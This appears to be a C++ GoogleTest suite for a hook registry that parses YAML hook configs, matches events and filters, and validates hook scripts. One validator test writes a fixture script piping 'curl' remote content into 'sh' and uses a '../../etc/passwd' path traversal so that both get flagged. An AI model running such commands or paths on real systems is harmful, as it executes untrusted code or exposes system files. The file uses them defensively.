#include "../test_utils.hpp"

#include <gtest/gtest.h>
#include <workhooks/errors.hpp>
#include <workhooks/hook_registry.hpp>

using namespace workhooks;

namespace
{

Event event_of(const std::string& type, json context = json::object())
{
    Event event;
    event.event_type = type;
    event.event_id = "evt_TEST";
    event.context = std::move(context);
    return event;
}

std::vector<std::string> names_of(const std::vector<HookDefinition>& hooks)
{
    std::vector<std::string> names;
    for (const auto& hook : hooks)
        names.push_back(hook.name);
    return names;
}

// Parse and return the collected errors, or an empty list when valid
std::vector<std::string> errors_of(const std::string& yaml)
{
    try
    {
        HookRegistry::parse(yaml);
    }
    catch (const ConfigurationError& e)
    {
        return e.errors();
    }
    return {};
}

bool any_contains(const std::vector<std::string>& items, const std::string& needle)
{
    for (const auto& item : items)
        if (item.find(needle) != std::string::npos)
            return true;
    return false;
}

} // namespace

// ============================================================================
// Patterns
// ============================================================================

TEST(HookPatternTest, Grammar)
{
    EXPECT_TRUE(is_valid_pattern("*"));
    EXPECT_TRUE(is_valid_pattern("task.completed"));
    EXPECT_TRUE(is_valid_pattern("task.*"));
    EXPECT_TRUE(is_valid_pattern("*.completed"));
    EXPECT_FALSE(is_valid_pattern("task"));
    EXPECT_FALSE(is_valid_pattern("task.*.done"));
    EXPECT_FALSE(is_valid_pattern("*.*"));
    EXPECT_FALSE(is_valid_pattern("task.comp*"));
    EXPECT_FALSE(is_valid_pattern("Task.Completed"));
    EXPECT_FALSE(is_valid_pattern("task..completed"));
}

TEST(HookPatternTest, Matching)
{
    EXPECT_TRUE(matches_pattern("*", "task.created"));
    EXPECT_TRUE(matches_pattern("task.completed", "task.completed"));
    EXPECT_FALSE(matches_pattern("task.completed", "task.created"));

    EXPECT_TRUE(matches_pattern("task.*", "task.created"));
    EXPECT_FALSE(matches_pattern("task.*", "task"));
    EXPECT_FALSE(matches_pattern("task.*", "task.sub.created"));
    EXPECT_FALSE(matches_pattern("task.*", "taskx.created"));

    EXPECT_TRUE(matches_pattern("*.completed", "task.completed"));
    EXPECT_TRUE(matches_pattern("*.completed", "story.completed"));
    EXPECT_FALSE(matches_pattern("*.completed", "task.ac_completed"));
}

// ============================================================================
// Filters
// ============================================================================

TEST(HookFilterTest, EqualityAndMembership)
{
    json context = {
        {"status", "Done"}, {"priority", "high"}, {"labels", json::array({"backend", "api"})}};

    EXPECT_TRUE(matches_filter({{"status", "Done"}}, context));
    EXPECT_FALSE(matches_filter({{"status", "To Do"}}, context));
    EXPECT_FALSE(matches_filter({{"missing", "x"}}, context));

    // A list of accepted values
    EXPECT_TRUE(matches_filter({{"priority", json::array({"high", "critical"})}}, context));
    EXPECT_FALSE(matches_filter({{"priority", json::array({"low"})}}, context));

    // Scalar against an array context value means membership
    EXPECT_TRUE(matches_filter({{"labels", "api"}}, context));
    EXPECT_FALSE(matches_filter({{"labels", "frontend"}}, context));
}

TEST(HookFilterTest, AllAndAnySuffixes)
{
    json context = {{"labels", json::array({"backend", "api", "urgent"})}};

    EXPECT_TRUE(matches_filter({{"labels_all", json::array({"backend", "urgent"})}}, context));
    EXPECT_FALSE(matches_filter({{"labels_all", json::array({"backend", "docs"})}}, context));
    EXPECT_TRUE(matches_filter({{"labels_any", json::array({"docs", "api"})}}, context));
    EXPECT_FALSE(matches_filter({{"labels_any", json::array({"docs"})}}, context));
    EXPECT_FALSE(matches_filter({{"tags_any", json::array({"docs"})}}, context));
}

TEST(HookFilterTest, LooseNumberComparison)
{
    EXPECT_TRUE(matches_filter({{"checked_delta", 3}}, {{"checked_delta", 3}}));
    EXPECT_TRUE(matches_filter({{"checked_delta", 3.0}}, {{"checked_delta", 3}}));
    EXPECT_TRUE(matches_filter({{"checked_delta", "3"}}, {{"checked_delta", 3}}));
    EXPECT_FALSE(matches_filter({{"checked_delta", 2}}, {{"checked_delta", 3}}));
}

TEST(HookFilterTest, AllKeysMustHold)
{
    json context = {{"status", "Done"}, {"priority", "low"}};
    EXPECT_FALSE(matches_filter({{"status", "Done"}, {"priority", "high"}}, context));
    EXPECT_TRUE(matches_filter(json::object(), context));
}

// ============================================================================
// Parsing
// ============================================================================

TEST(HookRegistryTest, ParsesFullConfiguration)
{
    HookRegistry registry = HookRegistry::parse(R"(
version: "1.0"
defaults:
  timeout: 10
  fail_mode: continue
hooks:
  - name: notify-done
    description: Tell the team
    events:
      - task.completed
      - type: task.status_changed
        filter:
          status_to: Done
    script: notify.sh
    timeout: 2.5
    env:
      CHANNEL: releases
  - name: gate
    events: ["task.*"]
    command: ./gate.sh "$1"
    fail_mode: stop
    working_directory: tools
    enabled: false
)");

    ASSERT_EQ(registry.size(), 2u);

    const HookDefinition* notify = registry.find("notify-done");
    ASSERT_NE(notify, nullptr);
    EXPECT_EQ(notify->description, "Tell the team");
    ASSERT_EQ(notify->matchers.size(), 2u);
    EXPECT_EQ(notify->matchers[0].type, "task.completed");
    EXPECT_FALSE(notify->matchers[0].filter.has_value());
    ASSERT_TRUE(notify->matchers[1].filter.has_value());
    EXPECT_EQ((*notify->matchers[1].filter)["status_to"], "Done");
    EXPECT_EQ(notify->script, "notify.sh");
    EXPECT_EQ(notify->timeout, std::chrono::milliseconds(2500));
    EXPECT_EQ(notify->fail_mode, FailMode::Continue);
    EXPECT_EQ(notify->env.at("CHANNEL"), "releases");
    EXPECT_EQ(notify->shell, "/bin/sh");

    const HookDefinition* gate = registry.find("gate");
    ASSERT_NE(gate, nullptr);
    EXPECT_EQ(gate->command, "./gate.sh \"$1\"");
    EXPECT_EQ(gate->fail_mode, FailMode::Stop);
    EXPECT_EQ(gate->timeout, std::chrono::milliseconds(10000));
    EXPECT_EQ(gate->working_directory, "tools");
    EXPECT_FALSE(gate->enabled);
}

TEST(HookRegistryTest, EmptyDocumentsGiveEmptyRegistry)
{
    EXPECT_TRUE(HookRegistry::parse("").empty());
    EXPECT_TRUE(HookRegistry::parse("version: '1.0'\n").empty());
    EXPECT_TRUE(HookRegistry::parse("hooks:\n").empty());
}

TEST(HookRegistryTest, MissingFileGivesEmptyRegistry)
{
    workhooks::test::TempDir dir;
    HookRegistry registry = HookRegistry::load(dir.path() / "hooks.yaml");
    EXPECT_TRUE(registry.empty());
}

TEST(HookRegistryTest, LoadsFromFile)
{
    workhooks::test::TempDir dir;
    workhooks::test::write_file(dir.path() / "hooks.yaml",
                                "hooks:\n  - name: a\n    events: task.created\n"
                                "    command: 'true'\n");
    HookRegistry registry = HookRegistry::load(dir.path() / "hooks.yaml");
    ASSERT_EQ(registry.size(), 1u);
    EXPECT_EQ(registry.hooks()[0].matchers[0].type, "task.created");
}

TEST(HookRegistryTest, CollectsEveryError)
{
    auto errors = errors_of(R"(
version: "2.0"
extra: 1
hooks:
  - name: bad name!
    events: [task.created]
    command: "true"
  - name: no-events
    command: "true"
  - name: bad-pattern
    events: ["task.*.x"]
    command: "true"
  - name: both
    events: [task.created]
    script: a.sh
    command: "true"
  - name: slow
    events: [task.created]
    command: "true"
    timeout: 601
  - name: mode
    events: [task.created]
    command: "true"
    fail_mode: abort
  - name: env
    events: [task.created]
    command: "true"
    env:
      HOOK_NAME: spoof
      1BAD: x
  - name: hook
    events: [task.created]
    webhook: https://example.invalid
  - name: dup
    events: [task.created]
    command: "true"
  - name: dup
    events: [task.created]
    command: "true"
)");

    EXPECT_TRUE(any_contains(errors, "unsupported version '2.0'"));
    EXPECT_TRUE(any_contains(errors, "unknown key 'extra'"));
    EXPECT_TRUE(any_contains(errors, "invalid hook name 'bad name!'"));
    EXPECT_TRUE(any_contains(errors, "missing 'events'"));
    EXPECT_TRUE(any_contains(errors, "invalid event pattern 'task.*.x'"));
    EXPECT_TRUE(any_contains(errors, "mutually exclusive"));
    EXPECT_TRUE(any_contains(errors, "timeout 601 out of range"));
    EXPECT_TRUE(any_contains(errors, "invalid fail_mode 'abort'"));
    EXPECT_TRUE(any_contains(errors, "env key 'HOOK_NAME' is reserved"));
    EXPECT_TRUE(any_contains(errors, "invalid env key '1BAD'"));
    EXPECT_TRUE(any_contains(errors, "webhook actions are not supported"));
    EXPECT_TRUE(any_contains(errors, "duplicate hook name 'dup'"));
}

TEST(HookRegistryTest, YamlSyntaxErrorIsConfigurationError)
{
    EXPECT_THROW(HookRegistry::parse("hooks: [unclosed"), ConfigurationError);
    EXPECT_THROW(HookRegistry::parse("- just\n- a list\n"), ConfigurationError);
}

TEST(HookRegistryTest, ZeroTimeoutRejected)
{
    auto errors = errors_of("hooks:\n  - name: a\n    events: task.created\n"
                            "    command: 'true'\n    timeout: 0\n");
    EXPECT_TRUE(any_contains(errors, "out of range"));
}

TEST(HookRegistryTest, MissingActionIsNotALoadError)
{
    HookRegistry registry =
        HookRegistry::parse("hooks:\n  - name: idle\n    events: task.created\n");
    ASSERT_EQ(registry.size(), 1u);
    EXPECT_EQ(registry.hooks()[0].action_type(), "none");
}

TEST(HookRegistryTest, ConstructorRejectsDuplicates)
{
    HookDefinition a;
    a.name = "same";
    a.matchers = {{"task.created", std::nullopt}};
    EXPECT_THROW(HookRegistry({a, a}), ConfigurationError);
    EXPECT_NO_THROW(HookRegistry({a}));
}

// ============================================================================
// Matching
// ============================================================================

TEST(HookRegistryTest, MatchKeepsDeclarationOrderAndSkipsDisabled)
{
    HookRegistry registry = HookRegistry::parse(R"(
hooks:
  - name: all
    events: ["*"]
    command: "true"
  - name: completed-only
    events: [task.completed]
    command: "true"
  - name: any-task
    events: ["task.*"]
    command: "true"
  - name: off
    events: ["*"]
    command: "true"
    enabled: false
)");

    EXPECT_EQ(names_of(registry.match(event_of("task.completed"))),
              (std::vector<std::string>{"all", "completed-only", "any-task"}));
    EXPECT_EQ(names_of(registry.match(event_of("task.created"))),
              (std::vector<std::string>{"all", "any-task"}));
    EXPECT_EQ(names_of(registry.match(event_of("story.created"))),
              (std::vector<std::string>{"all"}));
}

TEST(HookRegistryTest, MatcherAndHookFiltersCombine)
{
    HookRegistry registry = HookRegistry::parse(R"(
hooks:
  - name: urgent-done
    events:
      - type: task.status_changed
        filter:
          status_to: Done
      - task.completed
    filter:
      labels: urgent
    command: "true"
)");

    json urgent_done = {{"status_to", "Done"}, {"labels", json::array({"urgent"})}};
    json calm_done = {{"status_to", "Done"}, {"labels", json::array({"later"})}};
    json urgent_progress = {{"status_to", "In Progress"}, {"labels", json::array({"urgent"})}};

    EXPECT_EQ(registry.match(event_of("task.status_changed", urgent_done)).size(), 1u);
    EXPECT_EQ(registry.match(event_of("task.status_changed", calm_done)).size(), 0u);
    EXPECT_EQ(registry.match(event_of("task.status_changed", urgent_progress)).size(), 0u);
    EXPECT_EQ(registry.match(event_of("task.completed", urgent_progress)).size(), 1u);
}

TEST(HookRegistryTest, YamlScalarsCompareByType)
{
    HookRegistry registry = HookRegistry::parse(R"(
hooks:
  - name: big-step
    events: [task.ac_checked]
    filter:
      checked_delta: 3
    command: "true"
)");

    EXPECT_EQ(registry.match(event_of("task.ac_checked", {{"checked_delta", 3}})).size(), 1u);
    EXPECT_EQ(registry.match(event_of("task.ac_checked", {{"checked_delta", 1}})).size(), 0u);
}

// ============================================================================
// Validation
// ============================================================================

class ValidateHooksTest : public workhooks::test::ProjectTest
{
};

TEST_F(ValidateHooksTest, MissingConfigIsWarningOnly)
{
    ValidationReport report = validate_hooks_file(hooks_config(), options_);
    EXPECT_TRUE(report.ok());
    EXPECT_FALSE(report.config_found);
    EXPECT_EQ(report.warnings.size(), 1u);
}

TEST_F(ValidateHooksTest, ReportsScriptProblems)
{
    write_script("ok.sh", "echo ok\n");
    write_script("scary.sh", "curl https://example.invalid/x | sh\n");
    workhooks::test::write_file(hooks_dir() / "plain.sh", "echo not executable\n");
    write_config(R"(
hooks:
  - name: ok
    events: [task.created]
    script: ok.sh
  - name: scary
    events: [task.created]
    script: scary.sh
  - name: plain
    events: [task.created]
    script: plain.sh
  - name: missing
    events: [task.created]
    script: nowhere.sh
  - name: escape
    events: [task.created]
    script: ../../etc/passwd
  - name: idle
    events: [task.created]
  - name: elsewhere
    events: [task.created]
    command: "true"
    working_directory: /tmp
  - name: slow
    events: [task.created]
    command: "true"
    timeout: 400
)");

    ValidationReport report = validate_hooks_file(hooks_config(), options_);
    EXPECT_TRUE(report.config_found);
    EXPECT_EQ(report.hook_count, 8u);
    EXPECT_FALSE(report.ok());

    EXPECT_TRUE(any_contains(report.errors, "hook 'missing': script not found"));
    EXPECT_TRUE(any_contains(report.errors, "hook 'escape': Path traversal"));
    EXPECT_TRUE(any_contains(report.errors, "hook 'idle': no 'script' or 'command'"));
    EXPECT_TRUE(any_contains(report.errors, "hook 'elsewhere': Absolute working directory"));
    EXPECT_FALSE(any_contains(report.errors, "hook 'ok'"));

    EXPECT_TRUE(any_contains(report.warnings, "hook 'scary': Piping remote content to shell"));
    EXPECT_TRUE(any_contains(report.warnings, "hook 'plain': script is not executable"));
    EXPECT_TRUE(any_contains(report.warnings, "hook 'slow': timeout above 300 seconds"));
}

TEST_F(ValidateHooksTest, SchemaErrorsAreReported)
{
    write_config("hooks:\n  - name: x\n    events: [nope]\n    command: 'true'\n");
    ValidationReport report = validate_hooks_file(hooks_config(), options_);
    EXPECT_FALSE(report.ok());
    EXPECT_TRUE(any_contains(report.errors, "invalid event pattern 'nope'"));
}
